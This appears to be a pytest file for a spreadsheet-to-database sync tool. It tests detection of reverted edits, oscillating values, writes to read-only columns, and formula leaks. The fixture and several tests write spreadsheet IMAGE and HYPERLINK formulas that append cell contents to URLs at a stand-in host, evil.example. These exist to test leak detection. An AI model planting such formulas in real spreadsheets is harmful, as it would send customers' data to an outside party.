"""What a run does not hinder, and tells: formulas that carry cells out, values that come back."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.scenarios.office import Office, office_after, with_clients
from tests.scenarios.test_marks import looks

OUT = '=IMAGE("https://evil.example/?d="&B{row})'


@pytest.fixture
def office() -> Iterator[Office]:
    """Three clients, in agreement on both sides."""
    with office_after(with_clients(3)) as opened:
        yield opened


def told(office: Office) -> list[tuple[str, str, int | None, dict[str, str]]]:
    """Code, field, row and facts of what was found."""
    found = [item.problem for item in office.app.store.findings.problems("main")]
    return [(each.code, each.field, each.row, dict(each.params)) for each in found]


def formula(office: Office, row: int, heading: str, text: str) -> None:
    """As one that is pasted: what is typed into a column of text stays text."""
    tab = office.tab("Clients")
    place = {"sheetId": tab.sheet.id, "rowIndex": row - 1, "columnIndex": tab.column(heading) - 1}
    cell = {"userEnteredValue": {"formulaValue": text}}
    request = {"start": place, "rows": [{"values": [cell]}], "fields": "userEnteredValue"}
    office.staff.batch_update({"requests": [{"updateCells": request}]})


def rests(office: Office) -> None:
    """A run more finds nothing to do."""
    office.sync()
    assert office.sync().outcome == "unchanged"


def change(office: Office, city: str) -> None:
    office.sql("update clients set city = ? where full_name = 'Client 1'", city)
    office.sync()


def test_formulas_that_carry_cells_out_are_told_once_a_column_and_stay(office: Office) -> None:
    tab = office.tab("Clients")
    own = len(tab.headings) + 1
    tab.sheet.resize(cols=own)
    tab.sheet.update_cell(1, own, "Photo")
    for row in (2, 3, 4):
        tab.sheet.update_cell(row, own, OUT.format(row=row))
    formula(office, 3, "Note", '=HYPERLINK("https://evil.example/"&B3,"open")')
    formula(office, 4, "Note", '=HYPERLINK("https://company.example/","open")')
    office.sync()
    evil = {"heading": "Photo", "address": "evil.example", "function": "IMAGE"}
    assert sorted(told(office)) == [
        ("LEAK", "", 1, evil),
        ("LEAK", "note", 2, {**evil, "heading": "Note", "function": "HYPERLINK"}),
    ]
    assert tab.sheet.cell(3, own, value_render_option="FORMULA").value == OUT.format(row=3)
    assert office.sql("select note from clients where full_name = 'Client 2'") == [("open",)]
    rests(office)
    tab.type(3, "Note", "open")
    tab.sheet.delete_columns(own)
    office.sync()
    assert told(office) == []


def test_leak_that_was_accepted_is_told_again_only_for_another_address(office: Office) -> None:
    formula(office, 2, "Note", '=HYPERLINK("https://wa.example/"&B2,"write")')
    office.sync()
    (found,) = office.app.store.findings.problems("main")
    with office.app.store.transaction():
        office.app.store.findings.accept_problem(found.id)
    formula(office, 3, "Note", '=HYPERLINK("https://wa.example/"&B3,"write")')
    office.sync()
    assert [item.accepted for item in office.app.store.findings.problems("main")] == [True]
    formula(office, 4, "Note", '=HYPERLINK("https://evil.example/"&B4,"write")')
    office.sync()
    accepted = {
        item.problem.typed: item.accepted for item in office.app.store.findings.problems("main")
    }
    assert accepted == {"HYPERLINK wa.example": True, "HYPERLINK evil.example": False}


def test_change_of_ours_that_staff_take_back_is_taken_over_and_told(office: Office) -> None:
    change(office, "Omsk")
    tab = office.tab("Clients")
    assert tab.rows()[0]["City"] == "Omsk"
    tab.type(2, "City", "Perm")
    office.sync()
    assert office.sql("select city from clients where full_name = 'Client 1'") == [("Perm",)]
    record_id = tab.rows()[0]["ID"]
    assert told(office) == [("BACK", "city", 1, {"now": "Perm", "before": "Omsk", "id": record_id})]
    rests(office)
    tab.type(3, "Note", "work goes on")
    office.sync()
    assert [code for code, *_ in told(office)] == ["BACK"]
    tab.type(2, "City", "Tver")
    office.sync()
    assert told(office) == []


def test_cell_that_came_filled_and_is_emptied_had_never_been_blank(office: Office) -> None:
    office.sql(
        "insert into clients (full_name, phone, city) values ('New', '+79120000099', 'Omsk')"
    )
    office.sync()
    row = next(row["#"] for row in office.tab("Clients").rows() if row["Name"] == "New")
    office.tab("Clients").type(row, "City", "")
    office.sync()
    assert office.sql("select city from clients where full_name = 'New'") == [(None,)]
    assert "city" not in {field for _, field, *_ in told(office)}


def test_cell_that_two_programs_flip_to_and_fro_is_told(office: Office) -> None:
    tab = office.tab("Clients")
    for _ in range(2):
        change(office, "Omsk")
        assert "SWING" not in {code for code, *_ in told(office)}
        tab.type(2, "City", "Perm")
        office.sync()
    record_id = tab.rows()[0]["ID"]
    assert told(office) == [
        ("SWING", "city", 1, {"now": "Perm", "before": "Omsk", "id": record_id})
    ]
    change(office, "Omsk")
    assert [code for code, *_ in told(office)] == ["SWING"]
    assert office.disagreements() == []
    rests(office)
    change(office, "Kazan")
    assert told(office) == []


def test_what_was_typed_into_a_grey_column_is_told_until_somebody_accepts_it(
    office: Office,
) -> None:
    tab = office.tab("Clients")
    for text in ("forty boxes", "call him"):
        tab.put(2, "Current agreement", text)
        # Something else changes in the store meanwhile.
        office.sql("update clients set city = ? where full_name = 'Client 3'", text)
        office.sync()
        assert not tab.sheet.cell(2, tab.column("Current agreement")).value
    rests(office)
    tab.type(3, "Note", "work goes on")
    office.sync()

    listed = [row for row in office.tab("Problems").rows() if row["Code"] == "V11"]

    assert [(row["Typed"], row["Cell"]) for row in listed] == [
        ("forty boxes", ""),
        ("call him", ""),
    ]
    assert looks(office) == {}
    office.tab("Problems").type(listed[0]["#"], "Decision", "Accept as it is")
    office.sync()
    (left,) = office.app.store.findings.problems("main")
    assert left.problem.typed == "call him"
    rests(office)


@pytest.mark.parametrize(("heading", "text"), [("Recording", "ask her"), ("Duration, s", 77)])
def test_what_was_typed_beside_a_change_of_the_store_in_the_same_row_is_told(
    office: Office, heading: str, text: object
) -> None:
    office.sql(
        "insert into contacts (client, contact_at, duration_s, record_url)"
        " select id, '2026-03-02 10:00', 60, 'https://calls.example/1' from clients limit 1"
    )
    office.sync()
    tab = office.tab("Contacts")
    tab.put(2, heading, text)
    office.sql("update contacts set summary = 'something else'")
    office.sync()
    assert [row["Typed"] for row in office.tab("Problems").rows() if row["Code"] == "V11"] == [
        str(text)
    ]
    # What the program itself moves is no news.
    office.sql("update contacts set duration_s = 61, record_url = 'https://calls.example/2'")
    office.sync()
    assert len([code for code, *_ in told(office) if code == "V11"]) == 1


def test_script_that_writes_into_a_grey_column_run_after_run_is_told_as_one(office: Office) -> None:
    tab = office.tab("Clients")
    for turn in range(1, 5):
        tab.put(2, "Current agreement", "by a script")
        office.sync()
        (found,) = office.app.store.findings.problems("main")
        assert found.problem.code == "V11"
        assert ("script" in found.problem.remedy) == (turn >= 3)
        assert not tab.sheet.cell(2, tab.column("Current agreement")).value
